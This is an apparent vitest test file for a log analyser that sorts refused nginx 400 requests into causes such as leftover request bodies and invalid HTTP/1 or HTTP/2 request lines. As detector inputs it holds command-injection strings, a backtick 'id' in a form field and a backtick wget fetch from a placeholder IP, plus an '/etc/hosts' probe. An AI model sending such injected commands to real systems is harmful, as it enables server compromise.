// The bounds of the causes of the family malformed-request, and their cases where one line alone decides.
import { expect, test } from 'vitest';
import { bodyLeftover } from '../../../src/judge/causes/malformed-request/body-leftover.ts';
import type { Evidence } from '../../../src/judge/causes/cause.ts';
import { invalidHttp2Request } from '../../../src/judge/causes/malformed-request/invalid-http2-request.ts';
import { invalidRequestLine } from '../../../src/judge/causes/malformed-request/invalid-request-line.ts';
import { HitView } from '../../../src/judge/evidence/view.ts';
import { FIREFOX, hitOf, type Line, tablesOf } from '../literal.ts';
import { pair } from '../pair.ts';

const REFUSED: Line = { status: 400, body_bytes_sent: 157, http_user_agent: '-' };
/** A line that can only get the plain page, so that its size is known. */
const GARBAGE: Line = { ...REFUSED, request: '\\x16\\x03\\x01', client: '203.0.113.9' };
const EMPTY: Line = { request: '-', status: 400, body_bytes_sent: 0, http_user_agent: '-' };
const OLD_NGINX: readonly Line[] = [
  { ...EMPTY, client: '198.51.100.1' },
  { ...EMPTY, client: '198.51.100.2' },
];

/** The evidence for this text. The same client sent a POST or PUT at each of these seconds. */
function leftover(text: string, ...posts: readonly number[]): Evidence | undefined {
  const line = { ...REFUSED, request: text, at: 0 };
  const before = posts.filter((at) => at <= 0).map((at) => ({ at, request: 'POST /form HTTP/1.1' }));
  const after = posts.filter((at) => at > 0).map((at) => ({ at, request: 'PUT /form HTTP/1.1' }));
  return bodyLeftover.match(new HitView(hitOf(line, before, after), tablesOf()), tablesOf());
}

pair('body-leftover', 'BESIDE_SECONDS', {
  inside() {
    expect(leftover('ang', -2)?.case).toBe('after-body');
    expect(leftover('ang', 2)?.case).toBe('after-body');
  },
  outside() {
    expect(leftover('ang', -3)).toBeUndefined();
    expect(leftover('ang', 3)).toBeUndefined();
  },
});

pair('body-leftover', 'LONGEST_FIELD_NAME', {
  inside: () => expect(leftover(`f(${'x'.repeat(198)}=1&b=2`)?.case).toBe('form-data'),
  outside: () => expect(leftover(`f(${'x'.repeat(199)}=1&b=2`)).toBeUndefined(),
});

test.for([
  ['name=Hof', 'form-data'],
  ['dest_host=`id`&ipv=0', 'form-data'],
  ['&&', 'form-data'],
  ['na me=Hof', undefined],
  ['/etc/hosts', undefined],
  ['name', undefined],
  ['{"name=": 1, "b=": 2}', undefined],
  ['EHLO a=b', undefined],
  ['\\xFF\\xD8=\\xFF&\\xE0=', undefined],
] as const)('body-leftover: without a body before it, %s is %s', ([text, expected]) => {
  expect(leftover(text)?.case).toBe(expected);
});

test.for([
  ['{"name": 1}', 'after-body'],
  ['/etc/hosts', 'after-body'],
  ['\\xFF\\xD8\\xFF\\xE0', 'after-body'],
  ['EHLO a', undefined],
  ['\\x16\\x03\\x01', undefined],
] as const)('body-leftover: after a body, %s is %s', ([text, expected]) => {
  expect(leftover(text, 0)?.case).toBe(expected);
});

test('body-leftover: the verdict is hostile for attack text and for a client that only probes', () => {
  expect(leftover('a=`wget http://192.0.2.66/m`', 0)?.verdict).toBe('hostile');
  expect(leftover('a=1', 0)?.verdict).toBeUndefined();
  const line = { ...REFUSED, request: 'a=1' };
  const probe = { request: 'POST /x HTTP/1.1', status: 404 };
  const evidence = bodyLeftover.match(new HitView(hitOf(line, [probe]), tablesOf()), tablesOf());
  expect(evidence).toMatchObject({ verdict: 'hostile', facts: { after_request: 'POST /x HTTP/1.1' } });
});

test.for([
  [
    'the size of the plain page, which a TLS line shows',
    { request: 'get / HTTP/1.1' },
    [GARBAGE],
    'method-and-plain-page',
  ],
  ['a user agent', { request: 'get / HTTP/1.1', http_user_agent: FIREFOX }, [GARBAGE], 'plain-page'],
  ['a common size, without a line that shows the plain page', { request: 'get / HTTP/1.1' }, [], 'plain-page'],
  ['no method', { request: 'gett / HTTP/1.1' }, [GARBAGE], 'plain-page'],
  ['0 bytes', { request: 'get / HTTP/1.1', body_bytes_sent: 0 }, [GARBAGE], 'nothing-sent'],
  ['another size', { request: 'get / HTTP/1.1', body_bytes_sent: 512 }, [GARBAGE], 'other-size'],
  ['the page of another error', { request: 'get / HTTP/1.1', body_bytes_sent: 233 }, [GARBAGE], 'other-size'],
  ['no size', { request: 'get / HTTP/1.1', body_bytes_sent: undefined }, [GARBAGE], 'other-size'],
  ['a hyphen on an old nginx', { request: '-' }, [GARBAGE, ...OLD_NGINX], 'plain-page'],
  ['a hyphen on an nginx of unknown age', { request: '-' }, [GARBAGE], undefined],
  ['another protocol', { request: 'SSH-2.0-Go' }, [GARBAGE], undefined],
  ['a 400 of an upstream', { request: 'get / HTTP/1.1', extra: { upstream_status: '400' } }, [GARBAGE], undefined],
] as const)('invalid-request-line: %s', ([, line, lines, expected]) => {
  const tables = tablesOf(lines);
  expect(invalidRequestLine.match(new HitView(hitOf({ ...REFUSED, ...line }), tables), tables)?.case).toBe(expected);
});

test.for([
  ['get / HTTP/1.1', 'lower-case method'],
  ['GET /%zz HTTP/1.1', 'bad percent escape'],
  ['GET /a b HTTP/1.1', 'blank in the URI'],
  ['GET /a\\x01 HTTP/1.1', 'control or non-ASCII bytes'],
  ['GET a HTTP/1.1', 'no leading slash'],
  ['GET / HTTP/11.1', 'bad protocol version'],
  ['GET /../a HTTP/1.1', 'refused by the parser'],
] as const)('invalid-request-line: the fault in %s is: %s', ([request, fault]) => {
  const hit = new HitView(hitOf({ ...REFUSED, request }), tablesOf());
  expect(invalidRequestLine.match(hit, tablesOf())?.facts).toEqual({ fault });
});

const HTTP2: readonly Line[] = [
  { request: 'GET / HTTP/2.0', client: '198.51.100.3' },
  { request: 'GET / HTTP/2.0', client: '198.51.100.4' },
];

test.for([
  ['the size of the plain page, which a TLS line shows', 157, [GARBAGE], 'plain-page'],
  ['a common size, without a line that shows the plain page', 157, [], 'unproven-plain-page'],
  ['a size that no page has', 1311, [GARBAGE], 'size-of-no-page'],
  ['the page of another error', 233, [GARBAGE], undefined],
  ['an old nginx', 157, [GARBAGE, ...OLD_NGINX], undefined],
  ['an old and a new nginx in one log', 157, [GARBAGE, ...OLD_NGINX, ...HTTP2], 'plain-page'],
] as const)('invalid-http2-request: %s', ([, body_bytes_sent, lines, expected]) => {
  const tables = tablesOf(lines);
  const hit = hitOf({ ...REFUSED, request: '-', body_bytes_sent });
  expect(invalidHttp2Request.match(new HitView(hit, tables), tables)?.case).toBe(expected);
});
